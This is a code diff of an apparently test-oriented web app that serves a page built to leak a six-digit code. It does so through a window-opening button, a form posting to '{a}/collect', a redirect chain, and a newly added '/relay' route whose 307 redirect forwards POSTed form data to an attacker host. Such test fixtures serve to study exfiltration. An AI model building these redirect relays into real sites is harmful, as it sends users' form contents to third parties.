@@ -32,12 +32,18 @@ or read <a href="{a}/blog/security-tips">our security tips</a> and search there 
 <button onclick="window.open('{a}/w?d=' + document.body.innerText.match(/\\d{{6}}/)[0])">Open in new window</button>
 <p><a href="/bounce">Continue reading</a></p>
 <form method="post" action="{a}/collect"><label>Note <input name="note"></label><button>Save note</button></form>
+<form method="post" action="/relay"><label>Memo <input name="memo"></label><button>Save memo</button></form>
 </main>""")
 
     @app.get("/bounce")
     def bounce() -> RedirectResponse:
         # A same-site address that sends the browser on, with the code, to the attacker: a redirect chain.
         return RedirectResponse(f"/hop?next={attacker}/r", 302)
+
+    @app.post("/relay")
+    def relay() -> RedirectResponse:
+        # A 307 repeats the POST, body and all, to the next address: a redirect the browser follows itself.
+        return RedirectResponse(f"{attacker}/collect", 307)
 
     @app.get("/hop")
     def hop(next: str) -> RedirectResponse:
